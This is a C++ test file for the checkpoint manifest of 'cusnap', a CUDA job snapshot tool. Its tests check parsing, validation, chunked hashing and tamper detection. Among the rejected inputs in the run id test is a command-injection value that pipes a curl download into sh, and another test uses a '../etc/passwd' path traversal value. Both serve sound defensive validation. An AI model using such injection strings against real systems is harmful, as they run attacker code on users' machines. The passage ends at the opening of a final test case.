#include "coord/manifest.h"

#include <doctest/doctest.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <nlohmann/json.hpp>

#include <array>
#include <cerrno>
#include <cstddef>
#include <cstdlib>
#include <filesystem>
#include <fstream>

#include "coord/runtime_dir.h"
#include "coord/sha256.h"
#include "proto/shim_messages.h"

using namespace cusnap;
namespace fs = std::filesystem;

namespace {

Manifest sample() {
  Manifest m;
  m.created = "2026-01-01T00:00:00Z";
  m.cusnap_version = "0.1.0";
  m.job.name = "train";
  m.job.argv = {"./train", "--epochs", "3"};
  m.job.cwd = "/home/u";
  m.job.root_pid = 100;
  m.job.stdout_pipe_id = "pipe:[11]";
  m.job.stderr_pipe_id = "pipe:[12]";
  ManifestProcess p;
  p.pid = 100;
  p.ppid = 1;
  p.exe = "/bin/train";
  p.cmdline = m.job.argv;
  p.uses_cuda = true;
  p.gpus = {"GPU-00000000-0000-0000-0000-000000000001"};
  m.processes.push_back(p);
  m.driver_version = 13000;
  m.gpus.push_back({0, "Fake H200", "GPU-00000000-0000-0000-0000-000000000001", 1ull << 34});
  m.criu_version = "4.1.1";
  Sha256Digest abc;
  REQUIRE(from_hex(sha256_hex("abc"), &abc));
  m.files.push_back(
      {"criu/pages-1.img", 3, kHashChunkSize, to_hex(chunked_root({abc})), {sha256_hex("abc")}});
  m.phases = {{"dump", 1.5}};
  return m;
}

struct TempDir {
  std::string path;
  TempDir() {
    char t[] = "/tmp/cusnap-manifest-test-XXXXXX";
    path = mkdtemp(t);
  }
  ~TempDir() { fs::remove_all(path); }
};

void write_file(const std::string& path, const std::string& data) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path, std::ios::binary) << data;
}

/// Runs fn in a forked child in which system call nr is not made but
/// returns -error (error 0: returns 0, as a write that took nothing); fn's
/// return value is the child's exit status.
template <class Fn>
int with_syscall_failing(long nr, int error, Fn fn) {
  const pid_t pid = fork();
  REQUIRE(pid >= 0);
  if (pid == 0) {
    sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, static_cast<uint32_t>(nr), 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | (uint32_t(error) & SECCOMP_RET_DATA)),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    sock_fprog prog{static_cast<unsigned short>(std::size(code)), code};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 ||
        prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog) != 0)
      _exit(10);
    _exit(fn());
  }
  int status = 0;
  REQUIRE(waitpid(pid, &status, 0) == pid);
  REQUIRE(WIFEXITED(status));
  return WEXITSTATUS(status);
}

}  // namespace

TEST_CASE("manifest: round trip keeps every field") {
  Manifest m = sample(), back;
  std::string err;
  REQUIRE(manifest_from_json(manifest_to_json(m), &back, &err));
  CHECK(back.job.name == "train");
  CHECK(back.job.argv == m.job.argv);
  CHECK(back.job.stderr_pipe_id == "pipe:[12]");
  REQUIRE(back.processes.size() == 1);
  CHECK(back.processes[0].uses_cuda);
  CHECK(back.processes[0].gpus == m.processes[0].gpus);
  CHECK(back.gpus[0].total_mem == (1ull << 34));
  CHECK(back.files[0].sha256 == m.files[0].sha256);
  CHECK(back.files[0].chunk_size == kHashChunkSize);
  CHECK(back.files[0].chunks == m.files[0].chunks);
  CHECK(back.phases == m.phases);
  CHECK_FALSE(back.tcp_established);  // absent from the file: false
  CHECK(manifest_to_json(m).find("tcp_established") == std::string::npos);
  m.tcp_established = true;
  REQUIRE(manifest_from_json(manifest_to_json(m), &back, &err));
  CHECK(back.tcp_established);
  // CRIU's run id and lock: optional, kept when there.
  CHECK(back.criu_run_id.empty());
  CHECK(back.criu_network_lock.empty());
  CHECK(manifest_to_json(m).find("run_id") == std::string::npos);
  m.criu_run_id = "cf42bc17-ed7f-461d-92b0-8195dd73b201";
  m.criu_network_lock = "nftables";
  REQUIRE(manifest_from_json(manifest_to_json(m), &back, &err));
  CHECK(back.criu_run_id == m.criu_run_id);
  CHECK(back.criu_network_lock == "nftables");
  nlohmann::json bad = nlohmann::json::parse(manifest_to_json(m));
  bad["criu"]["network_lock"] = 7;
  CHECK_FALSE(manifest_from_json(bad.dump(), &back, &err));
  CHECK(err.find("criu.network_lock is not a string") != std::string::npos);
  // A run id that is not CRIU's (a UUID) is refused: inspect puts it in an
  // nft command line to paste.
  for (const std::string id :
       {"x;curl -s e.co|sh #", "cf42bc17-ed7f-461d-92b0-8195dd73b20",
        "cf42bc17-ed7f-461d-92b0-8195dd73b20g", "cf42bc17ed7f-461d-92b0-8195dd73b2012",
        "cf42bc17-ed7f-461d-92b0-8195dd73b201\n"}) {
    CAPTURE(id);
    bad = nlohmann::json::parse(manifest_to_json(m));
    bad["criu"]["run_id"] = id;
    CHECK_FALSE(manifest_from_json(bad.dump(), &back, &err));
    CHECK(err ==
          "manifest field criu.run_id is not a CRIU run id (a UUID, 8-4-4-4-12 hexadecimal "
          "digits)");
  }
  bad = nlohmann::json::parse(manifest_to_json(m));
  bad["criu"]["run_id"] = "";  // none found in CRIU's log: taken, as absent
  CHECK(manifest_from_json(bad.dump(), &back, &err));
  CHECK(back.criu_run_id.empty());
}

TEST_CASE("manifest: the GPUs its CUDA processes used, each once, in the order first seen") {
  Manifest m;
  ManifestProcess a, b, c;
  a.uses_cuda = true;
  a.gpus = {"GPU-b", "GPU-a"};
  b.uses_cuda = false;  // a process without CUDA names no GPU a map may move
  b.gpus = {"GPU-c"};
  c.uses_cuda = true;
  c.gpus = {"GPU-a", "GPU-d"};
  m.processes = {a, b, c};
  CHECK(used_gpus(m) == std::vector<std::string>{"GPU-b", "GPU-a", "GPU-d"});
  m.processes.clear();
  CHECK(used_gpus(m).empty());
}

TEST_CASE("manifest: the loader rejects what it does not understand, saying which field") {
  std::string err;
  Manifest out;
  CHECK_FALSE(manifest_from_json("{\"format\": \"cusnap-checkpoint\", \"vers", &out, &err));
  CHECK(err.find("not valid JSON") != std::string::npos);

  std::string text = manifest_to_json(sample());
  auto with = [&](const std::string& from, const std::string& to) {
    std::string t = text;
    size_t p = t.find(from);
    REQUIRE(p != std::string::npos);
    return t.replace(p, from.size(), to);
  };
  CHECK_FALSE(manifest_from_json(with("\"version\": 4\n}", "\"version\": 7\n}"), &out, &err));
  CHECK(err.find("version 7 (written by cusnap 0.1.0) is not supported") != std::string::npos);
  // Version 1 (one SHA-256 per file) is refused, naming the cusnap to use.
  CHECK_FALSE(manifest_from_json(with("\"version\": 4\n}", "\"version\": 1\n}"), &out, &err));
  CHECK(err.find("version 1 (written by cusnap 0.1.0) is not supported") != std::string::npos);
  CHECK(err.find("reads versions 2 to 4") != std::string::npos);
  CHECK(err.find("restore it with the cusnap that wrote it") != std::string::npos);
  // Version 2 has no shim_processes and is still read; versions 3 and 4 need
  // them.
  {
    std::string v2 = with("\"version\": 4\n}", "\"version\": 2\n}");
    size_t p = v2.find("  \"shim_processes\"");
    REQUIRE(p != std::string::npos);
    v2.erase(p, v2.find('\n', p) + 1 - p);
    Manifest old;
    CHECK(manifest_from_json(v2, &old, &err));
    CHECK(old.shim_processes.empty());
    std::string v3 = v2;
    v3.replace(v3.find("\"version\": 2"), 12, "\"version\": 3");
    CHECK_FALSE(manifest_from_json(v3, &old, &err));
    CHECK(err.find("shim_processes is missing") != std::string::npos);
  }
  // The first version 2 manifests have no job.shim_dir: read as empty (the
  // restored job's own runtime directory); version 3 needs it.
  {
    Manifest withdir = sample();
    withdir.job.shim_dir = "/run/cusnap/train";
    nlohmann::json v2 = nlohmann::json::parse(manifest_to_json(withdir));
    v2["version"] = 2;
    v2.erase("shim_processes");
    v2["job"].erase("shim_dir");
    Manifest old;
    old.job.shim_dir = "/left/from/before";
    CHECK_MESSAGE(manifest_from_json(v2.dump(), &old, &err), err);
    CHECK(old.job.shim_dir.empty());
    v2["job"]["shim_dir"] = "/run/cusnap/train";
    CHECK_MESSAGE(manifest_from_json(v2.dump(), &old, &err), err);
    CHECK(old.job.shim_dir == "/run/cusnap/train");
    v2["job"]["shim_dir"] = 7;
    CHECK_FALSE(manifest_from_json(v2.dump(), &old, &err));
    CHECK(err == "manifest field job.shim_dir is not a string");
    nlohmann::json v3 = nlohmann::json::parse(manifest_to_json(withdir));
    v3["job"].erase("shim_dir");
    CHECK_FALSE(manifest_from_json(v3.dump(), &old, &err));
    CHECK(err == "manifest field job.shim_dir is missing");
  }
  {
    Manifest withshim = sample();
    withshim.shim_processes = {41, 42};
    for (pid_t pid : withshim.shim_processes) {
      ManifestProcess p = withshim.processes[0];
      p.pid = pid;
      withshim.processes.push_back(p);
      ManifestFile f = withshim.files[0];
      f.path = "shim/" + std::to_string(pid) + ".records";
      withshim.files.push_back(f);
    }
    Manifest back;
    REQUIRE(manifest_from_json(manifest_to_json(withshim), &back, &err));
    CHECK(back.shim_processes == std::vector<pid_t>{41, 42});
    std::string t = manifest_to_json(withshim);
    t.replace(t.find("41", t.find("\"shim_processes\"")), 2, "-4");
    CHECK_FALSE(manifest_from_json(t, &back, &err));
    CHECK(err.find("shim_processes[0] is not a process id") != std::string::npos);
  }
  CHECK_FALSE(
      manifest_from_json(with("\"chunk_size\": 67108864", "\"chunk_size\": 1000000"), &out, &err));
  CHECK(err.find("files[0].chunk_size 1000000 is not a power of two") != std::string::npos);
  CHECK_FALSE(
      manifest_from_json(with("\"chunk_size\": 67108864", "\"chunk_size\": 2048"), &out, &err));
  CHECK(err.find("files[0].chunk_size 2048") != std::string::npos);
  CHECK_FALSE(manifest_from_json(with("\"size\": 3", "\"size\": 67108865"), &out, &err));
  CHECK(err.find("files[0].chunks has 1 digests; size 67108865 in chunks of 67108864 needs 2") !=
        std::string::npos);
  CHECK_FALSE(manifest_from_json(with("\"size\": 3", "\"size\": 0"), &out, &err));
  CHECK(err.find("needs 0") != std::string::npos);
  CHECK_FALSE(manifest_from_json(with(sha256_hex("abc"), "ABC"), &out, &err));
  CHECK(err.find("files[0].chunks has an element that is not 64 lowercase hex") !=
        std::string::npos);
  CHECK_FALSE(manifest_from_json(with("\"chunks\": [", "\"chunkz\": ["), &out, &err));
  CHECK(err.find("files[0].chunks is missing") != std::string::npos);
  CHECK_FALSE(manifest_from_json(with("\"root_pid\": 100", "\"root_pid\": \"x\""), &out, &err));
  CHECK(err.find("job.root_pid is not an integer") != std::string::npos);
  CHECK_FALSE(manifest_from_json(with("criu/pages-1.img", "../etc/passwd"), &out, &err));
  CHECK(err.find("not a relative path") != std::string::npos);
  CHECK_FALSE(manifest_from_json(with("\"uses_cuda\": true", "\"uses_cuda\": 1"), &out, &err));
  CHECK(err.find("uses_cuda") != std::string::npos);
  CHECK_FALSE(manifest_from_json(with("\"cusnap-checkpoint\"", "\"other\""), &out, &err));
}

TEST_CASE("manifest: the job's TCP listeners, optional and checked") {
  std::string err;
  Manifest m = sample(), back;
  // Absent (as in checkpoints written before them): none, and not written.
  CHECK(manifest_to_json(m).find("tcp_listeners") == std::string::npos);
  REQUIRE(manifest_from_json(manifest_to_json(m), &back, &err));
  CHECK(back.tcp_listeners.empty());
  m.tcp_listeners = {{4, "127.0.0.1", 28028, true, true},
                     {4, "0.0.0.0", 8000, false, false},
                     {6, "::", 65535, false, true, true},
                     {6, "fd00::1", 1, true, false, false}};
  const std::string text = manifest_to_json(m);
  // v6only is written for IPv6 listeners only.
  size_t v6only = 0;
  for (size_t p = 0; (p = text.find("\"v6only\"", p)) != std::string::npos; ++p) ++v6only;
  CHECK(v6only == 2);
  REQUIRE(manifest_from_json(text, &back, &err));
  CHECK(back.tcp_listeners == m.tcp_listeners);

  // Each invalid value is refused, naming the field: {from, to, error}.
  const std::vector<std::array<std::string, 3>> invalid = {
      {"\"family\": 4", "\"family\": 5", "tcp_listeners[0].family 5 is not 4 or 6"},
      {"\"family\": 4", "\"family\": \"4\"", "tcp_listeners[0].family is not an integer"},
      {"\"family\": 4", "\"famly\": 4", "tcp_listeners[0].family is missing"},
      {"\"127.0.0.1\"", "\"127.0.0.256\"",
       "tcp_listeners[0].addr \"127.0.0.256\" is not an IPv4 address"},
      {"\"127.0.0.1\"", "\"::1\"", "tcp_listeners[0].addr \"::1\" is not an IPv4 address"},
      {"\"::\"", "\"10.0.0.1\"", "tcp_listeners[2].addr \"10.0.0.1\" is not an IPv6 address"},
      {"\"127.0.0.1\"", "7", "tcp_listeners[0].addr is not a string"},
      {"\"port\": 28028", "\"port\": 0", "tcp_listeners[0].port 0 is not a port (1 to 65535)"},
      {"\"port\": 28028", "\"port\": 65536",
       "tcp_listeners[0].port 65536 is not a port (1 to 65535)"},
      {"\"port\": 28028", "\"port\": -1", "tcp_listeners[0].port -1 is not a port (1 to 65535)"},
      {"\"port\": 28028", "\"port\": 99999999999", "tcp_listeners[0].port is out of range"},
      {"\"reuseport\": true", "\"reuseport\": 1",
       "tcp_listeners[0].reuseport is not true or false"},
      {"\"reuseaddr\": true", "\"reuse_addr\": true", "tcp_listeners[0].reuseaddr is missing"},
      {"\"v6only\": true", "\"v6only\": \"yes\"", "tcp_listeners[2].v6only is not true or false"},
      {"\"reuseaddr\": true", "\"reuseaddr\": true, \"v6only\": false",
       "tcp_listeners[0].v6only is for family 6 only"},
      {"\"tcp_listeners\": [", "\"tcp_listeners\": 7, \"x\": [", "tcp_listeners is not an array"},
  };
  for (const auto& [from, to, why] : invalid) {
    std::string t = text;
    size_t p = t.find(from, t.find("\"tcp_listeners\""));
    REQUIRE(p != std::string::npos);
    t.replace(p, from.size(), to);
    Manifest out;
    CHECK_FALSE(manifest_from_json(t, &out, &err));
    CHECK_MESSAGE(err.find(why) != std::string::npos, why, " / ", err);
  }
  {
    // At most kMaxTcpListeners.
    Manifest many = sample();
    many.tcp_listeners.assign(kMaxTcpListeners + 1, {4, "127.0.0.1", 80, false, false});
    Manifest out;
    CHECK_FALSE(manifest_from_json(manifest_to_json(many), &out, &err));
    CHECK(err.find("tcp_listeners has 4097 elements, more than 4096") != std::string::npos);
  }
}

TEST_CASE("manifest: atomic write, read back, and file verification") {
  TempDir d;
  write_file(d.path + "/criu/pages-1.img", "abc");
  Manifest m = sample();
  std::string err;
  std::vector<ManifestFile> files;
  REQUIRE(hash_directory(d.path, &files, nullptr, &err));
  REQUIRE(files.size() == 1);
  CHECK(files[0].path == "criu/pages-1.img");
  CHECK(files[0].size == 3);
  CHECK(files[0].chunk_size == kHashChunkSize);
  CHECK(files[0].chunks == std::vector<std::string>{sha256_hex("abc")});
  CHECK(files[0].sha256 == m.files[0].sha256);
  m.files = files;
  REQUIRE(write_manifest(d.path, m, &err));
  CHECK_FALSE(fs::exists(d.path + "/manifest.json.tmp"));
  Manifest back;
  REQUIRE(read_manifest(d.path, &back, &err));
  CHECK(verify_manifest_files(d.path, back, nullptr, &err));

  SUBCASE("a changed byte is caught") {
    write_file(d.path + "/criu/pages-1.img", "abd");
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err == d.path +
                     "/criu/pages-1.img: bytes 0 to 2 (chunk 1 of 1) do not match their SHA-256 "
                     "in the manifest: the checkpoint is corrupted");
  }
  SUBCASE("a file digest that disagrees with its chunk digests") {
    back.files[0].sha256 = sha256_hex("abc");
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err.find("the manifest was altered") != std::string::npos);
  }
  SUBCASE("a truncated file is caught by its size") {
    write_file(d.path + "/criu/pages-1.img", "ab");
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err.find("truncated") != std::string::npos);
  }
  SUBCASE("a missing file") {
    fs::remove(d.path + "/criu/pages-1.img");
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err.find("missing") != std::string::npos);
  }
  SUBCASE("an extra file") {
    write_file(d.path + "/criu/core-9.img", "x");
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err.find("not listed") != std::string::npos);
  }
  SUBCASE("CRIU's restore statistics are allowed") {
    write_file(d.path + "/criu/stats-restore", "x");
    CHECK(verify_manifest_files(d.path, back, nullptr, &err));
  }
  SUBCASE("a cancel ends the verification, which then fails") {
    int asked = 0;
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err, [&] { return ++asked > 0; }));
    CHECK(asked > 0);
    CHECK(verify_manifest_files(d.path, back, nullptr, &err, [] { return false; }));
  }
  SUBCASE("no manifest: not a finished checkpoint") {
    fs::remove(d.path + "/manifest.json");
    CHECK_FALSE(read_manifest(d.path, &back, &err));
    CHECK(err.find("did not finish") != std::string::npos);
  }
}

TEST_CASE("manifest: a failed write says why, a failed close or a write taking nothing too") {
  TempDir d;
  const Manifest m = sample();
  const std::string tmp = d.path + "/manifest.json.tmp";
  // The child's exit status: 0 when write_manifest failed with that reason,
  // 11 when it succeeded, 12 when it gave another. errno starts at 0, so a
  // reason taken from no failure reads "Success".
  auto fails_with = [&](const std::string& reason) {
    return [&, reason]() -> int {
      std::string err;
      errno = 0;
      if (write_manifest(d.path, m, &err)) return 11;
      return err == "cannot write " + tmp + ": " + reason ? 0 : 12;
    };
  };
  SUBCASE("the close fails") {
    CHECK(with_syscall_failing(__NR_close, EIO, fails_with("Input/output error")) == 0);
  }
  SUBCASE("a write takes nothing") {
    CHECK(with_syscall_failing(__NR_write, 0, fails_with("Input/output error")) == 0);
  }
  SUBCASE("a write fails") {
    CHECK(with_syscall_failing(__NR_write, ENOSPC, fails_with("No space left on device")) == 0);
  }
  CHECK_FALSE(fs::exists(tmp));
  CHECK_FALSE(fs::exists(d.path + "/" + kManifestName));
}

TEST_CASE("manifest: the hashing takes the threads it is given; the files are flushed, by name") {
  TempDir d;
  write_file(d.path + "/criu/pages-1.img", "abc");
  write_file(d.path + "/top", "x");
  std::vector<ManifestFile> files;
  std::string err;
  // The count a checkpoint's command set is used, not this process's
  // environment (a supervisor's, which may say otherwise).
  setenv("CUSNAP_HASH_THREADS", "zero", 1);
  CHECK_FALSE(hash_directory(d.path, &files, nullptr, &err));
  CHECK(err.find("CUSNAP_HASH_THREADS=\"zero\"") == 0);
  CHECK(hash_directory(d.path, &files, nullptr, &err, kHashChunkSize, {}, 2));
  unsetenv("CUSNAP_HASH_THREADS");
  REQUIRE(files.size() == 2);
  CHECK(flush_to_disk(d.path, files, &err));
  fs::remove(d.path + "/criu/pages-1.img");
  CHECK_FALSE(flush_to_disk(d.path, files, &err));
  CHECK(err == "cannot open " + d.path + "/criu/pages-1.img: No such file or directory");
  CHECK_FALSE(flush_to_disk(d.path + "/gone", files, &err));
  CHECK(err == "cannot open " + d.path + "/gone: No such file or directory");
}

TEST_CASE("manifest: chunked verification names the corrupted region") {
  TempDir d;
  std::string data(4 * 4096 + 10, '\0'), err;
  for (size_t i = 0; i < data.size(); ++i) data[i] = char(i % 251);
  write_file(d.path + "/criu/pages-1.img", data);
  write_file(d.path + "/criu/empty.img", "");
  Manifest m = sample();
  std::vector<Progress> seen;
  ProgressSink sink = [&](const Progress& p) { seen.push_back(p); };
  REQUIRE(hash_directory(d.path, &m.files, sink, &err, 4096));
  REQUIRE(m.files.size() == 2);
  CHECK(m.files[0].path == "criu/empty.img");
  CHECK(m.files[0].chunks.empty());
  CHECK(m.files[0].sha256 == sha256_hex(""));
  CHECK(m.files[1].chunks.size() == 5);
  REQUIRE_FALSE(seen.empty());
  CHECK(seen.back().phase == "checksum");
  CHECK(seen.back().bytes_done == data.size());
  CHECK(seen.back().bytes_total == data.size());
  // Through JSON, as a restore reads it.
  Manifest back;
  REQUIRE(manifest_from_json(manifest_to_json(m), &back, &err));
  seen.clear();
  REQUIRE(verify_manifest_files(d.path, back, sink, &err));
  CHECK(seen.back().phase == "verify");
  CHECK(seen.back().bytes_done == data.size());

  SUBCASE("one byte in the third chunk") {
    data[2 * 4096 + 17] ^= 0x40;
    write_file(d.path + "/criu/pages-1.img", data);
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err == d.path +
                     "/criu/pages-1.img: bytes 8192 to 12287 (chunk 3 of 5) do not match their "
                     "SHA-256 in the manifest: the checkpoint is corrupted");
  }
  SUBCASE("the short last chunk, and a second one") {
    data[4 * 4096 + 9] ^= 0x01;
    data[4096] ^= 0x01;
    write_file(d.path + "/criu/pages-1.img", data);
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err.find("bytes 4096 to 8191 (chunk 2 of 5) and 1 more chunks do not match") !=
          std::string::npos);
  }
  SUBCASE("the empty file gained a byte") {
    write_file(d.path + "/criu/empty.img", "x");
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err.find("has 1 bytes, the manifest says 0") != std::string::npos);
  }
  SUBCASE("the same with another number of threads") {
    setenv("CUSNAP_HASH_THREADS", "1", 1);
    CHECK(verify_manifest_files(d.path, back, nullptr, &err));
    unsetenv("CUSNAP_HASH_THREADS");
  }
}

TEST_CASE("manifest: the reader refuses what is not a manifest file, saying what it is") {
  TempDir d;
  Manifest m;
  std::string err;
  const std::string path = d.path + "/manifest.json";
  SUBCASE("no directory") {
    CHECK_FALSE(read_manifest(d.path + "/nope", &m, &err));
    CHECK(err.find("does not exist") != std::string::npos);
  }
  SUBCASE("a file for the directory") {
    write_file(d.path + "/f", "x");
    CHECK_FALSE(read_manifest(d.path + "/f", &m, &err));
    CHECK(err.find("is not a directory") != std::string::npos);
  }
  SUBCASE("no manifest") {
    CHECK_FALSE(read_manifest(d.path, &m, &err));
    CHECK(err.find("has no manifest.json") != std::string::npos);
  }
  SUBCASE("a FIFO is refused without waiting for a writer") {
    REQUIRE(mkfifo(path.c_str(), 0600) == 0);
    CHECK_FALSE(read_manifest(d.path, &m, &err));
    CHECK(err == path + " is not a regular file");
  }
  SUBCASE("a directory") {
    fs::create_directory(path);
    CHECK_FALSE(read_manifest(d.path, &m, &err));
    CHECK(err == path + " is not a regular file");
  }
  SUBCASE("a link to a device that never ends") {
    fs::create_symlink("/dev/zero", path);
    CHECK_FALSE(read_manifest(d.path, &m, &err));
    CHECK(err == path + " is not a regular file");
  }
  SUBCASE("a file larger than any manifest is refused unread") {
    write_file(path, "");
    fs::resize_file(path, uintmax_t(1) << 30);  // sparse
    CHECK_FALSE(read_manifest(d.path, &m, &err));
    CHECK(err.find("more than a manifest can be") != std::string::npos);
  }
  SUBCASE("an unreadable checkpoint says so, not that it is none") {
    write_file(path, "{}");
    REQUIRE(::chmod(path.c_str(), 0) == 0);
    // As uid 65534 where the test runs as root (root reads any file).
    const pid_t pid = fork();
    REQUIRE(pid >= 0);
    if (pid == 0) {
      if (geteuid() == 0 && (setgid(65534) != 0 || setuid(65534) != 0)) _exit(10);
      std::string e;
      Manifest mm;
      const bool ok = read_manifest(d.path, &mm, &e);
      _exit(ok ? 11 : e.find("Permission denied") == std::string::npos ? 12 : 0);
    }
    int status = 0;
    REQUIRE(waitpid(pid, &status, 0) == pid);
    CHECK(WIFEXITED(status));
    CHECK(WEXITSTATUS(status) == 0);
  }
}

namespace {

/// The text of dir's manifest.
std::string read_text(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(f), std::istreambuf_iterator<char>());
}

/// text with its first `from` replaced by `to`.
std::string replaced(std::string text, const std::string& from, const std::string& to) {
  const size_t p = text.find(from);
  REQUIRE_MESSAGE(p != std::string::npos, from);
  return text.replace(p, from.size(), to);
}

}  // namespace

TEST_CASE("manifest: its own SHA-256 is written, and checked before anything else is read") {
  TempDir d;
  const std::string path = d.path + "/manifest.json";
  Manifest m = sample(), back;
  // A second process, not the root: a change of its pid passes the parser.
  ManifestProcess child = m.processes[0];
  child.pid = 4242;
  child.ppid = 100;
  child.uses_cuda = false;
  child.gpus.clear();
  m.processes.push_back(child);
  m.processes[0].gpu_memory = {{m.gpus[0].uuid, 1000000}};
  m.gpu_free = {{m.gpus[0].uuid, 8000000000}};
  m.job.shim_dir = "/run/cusnap/train";
  // Text the serializer escapes or replaces, and times whose shortest
  // decimal digits are not what nlohmann writes: they read back the same.
  m.job.argv = {"./train", "caf\xc3\xa9", "\xff\xfe raw", "tab\there", "esc\x1b[31m"};
  m.phases = {{"dump", 0.061534609999999997},
              {"verify", 72.29734305854291},
              {"tiny", 1e-7},
              {"huge", 1e300},
              {"whole", 12.0}};
  std::string err;
  ExitCode code = kExitOk;
  REQUIRE(write_manifest(d.path, m, &err));
  const std::string text = read_text(path);
  const nlohmann::json j = nlohmann::json::parse(text);
  REQUIRE(j.contains(kManifestSha256Field));
  const std::string digest = j[kManifestSha256Field];
  // The SHA-256 of the text without it: the file less its own line.
  CHECK(digest == sha256_hex(manifest_to_json(m)));
  CHECK(digest == manifest_content_sha256(text));
  CHECK(replaced(text, "  \"manifest_sha256\": \"" + digest + "\",\n", "") == manifest_to_json(m));
  CHECK(j["version"] == kManifestVersion);

  SUBCASE("round trip") {
    REQUIRE_MESSAGE(read_manifest_coded(d.path, &back, &code, &err), err);
    CHECK(code == kExitOk);
    CHECK(manifest_to_json(back) == manifest_to_json(m));
    CHECK(back.processes[1].pid == 4242);
    CHECK(back.phases == m.phases);
    // Whitespace and key order do not count: the content does.
    write_file(path, j.dump());
    REQUIRE_MESSAGE(read_manifest(d.path, &back, &err), err);
    CHECK(manifest_to_json(back) == manifest_to_json(m));
  }
  SUBCASE("a changed digit is refused as a manifest altered or corrupted") {
    const std::string altered_msg =
        path +
        ": the manifest was altered or corrupted after cusnap wrote it: its content does not "
        "match its own SHA-256 (manifest_sha256); restore from an intact copy";
    for (const auto& [from, to] : std::vector<std::pair<std::string, std::string>>{
             {"\"pid\": 4242", "\"pid\": 4243"},
             {"8000000000", "9000000000"},
             {"1000000\n", "1000001\n"},
             {"/run/cusnap/train", "/run/cusnap/trair"},
             {"\"version\": 4", "\"version\": 3"}}) {
      CAPTURE(from);
      const std::string edited = replaced(text, from, to);
      // Text that parses and validates: only its digest tells.
      REQUIRE_MESSAGE(manifest_from_json(edited, &back, &err), err);
      write_file(path, edited);
      CHECK_FALSE(read_manifest_coded(d.path, &back, &code, &err));
      CHECK(code == kExitBadCheckpoint);
      CHECK(err == altered_msg);
    }
    // Checked first: an edit the parser would refuse too is told as this.
    write_file(path, replaced(text, "\"pid\": 100,", "\"pid\": 101,"));
    CHECK_FALSE(read_manifest(d.path, &back, &err));
    CHECK(err == altered_msg);
    // The digest itself changed, or not one.
    write_file(path, replaced(text, digest, std::string(64, '0')));
    CHECK_FALSE(read_manifest(d.path, &back, &err));
    CHECK(err == altered_msg);
    write_file(path, replaced(text, "\"" + digest + "\"", "7"));
    CHECK_FALSE(read_manifest_coded(d.path, &back, &code, &err));
    CHECK(code == kExitBadCheckpoint);
    CHECK(err == path +
                     ": manifest field manifest_sha256 is not 64 lowercase hex digits: the "
                     "manifest was altered or corrupted");
  }
  SUBCASE("this version without it is refused as incomplete") {
    nlohmann::json bare = j;
    bare.erase(kManifestSha256Field);
    write_file(path, bare.dump(2));
    CHECK_FALSE(read_manifest_coded(d.path, &back, &code, &err));
    CHECK(code == kExitBadCheckpoint);
    CHECK(err == path +
                     ": manifest field manifest_sha256 is missing: a version 4 manifest holds "
                     "its own SHA-256, so this one is incomplete or was altered");
  }
  SUBCASE("a later version is refused for its version, not as altered") {
    nlohmann::json v5 = j;
    v5["version"] = 5;
    write_file(path, v5.dump(2));
    CHECK_FALSE(read_manifest_coded(d.path, &back, &code, &err));
    CHECK(code == kExitBadCheckpoint);
    CHECK(err.find("altered") == std::string::npos);
    CHECK(err.find("version 5") != std::string::npos);
  }
  SUBCASE("versions 2 and 3, written without it, are still read") {
    nlohmann::json v3 = j;
    v3.erase(kManifestSha256Field);
    v3["version"] = 3;
    write_file(path, v3.dump(2));
    REQUIRE_MESSAGE(read_manifest_coded(d.path, &back, &code, &err), err);
    CHECK(code == kExitOk);
    CHECK(back.version == 3);
    CHECK(back.processes[1].pid == 4242);
    CHECK(back.job.shim_dir == "/run/cusnap/train");
    nlohmann::json v2 = v3;
    v2["version"] = 2;
    v2.erase("shim_processes");
    write_file(path, v2.dump());
    REQUIRE_MESSAGE(read_manifest(d.path, &back, &err), err);
    CHECK(back.version == 2);
    CHECK(back.gpu_free == m.gpu_free);
    // One there is checked all the same.
    v3[kManifestSha256Field] = digest;
    write_file(path, v3.dump(2));
    CHECK_FALSE(read_manifest(d.path, &back, &err));
    CHECK(err == path +
                     ": the manifest was altered or corrupted after cusnap wrote it: its content "
                     "does not match its own SHA-256 (manifest_sha256); restore from an intact "
                     "copy");
    v3[kManifestSha256Field] = manifest_content_sha256(v3.dump());
    write_file(path, v3.dump(2));
    CHECK_MESSAGE(read_manifest(d.path, &back, &err), err);
    // A version this cusnap does not read is told as such, not as incomplete.
    v3.erase(kManifestSha256Field);
    v3["version"] = 1;
    write_file(path, v3.dump(2));
    CHECK_FALSE(read_manifest(d.path, &back, &err));
    CHECK(err.find("manifest version 1 (written by cusnap 0.1.0) is not supported") !=
          std::string::npos);
  }
  SUBCASE("what is not a manifest is told as before") {
    write_file(path, "{}");
    CHECK_FALSE(read_manifest(d.path, &back, &err));
    CHECK(err.find("is not a cusnap checkpoint manifest") != std::string::npos);
    write_file(path, text.substr(0, 200));
    CHECK_FALSE(read_manifest(d.path, &back, &err));
    CHECK(err == path + ": manifest is not valid JSON (truncated or corrupted)");
  }
}

TEST_CASE("manifest: a symbolic link in a checkpoint is refused, naming the link") {
  TempDir d;
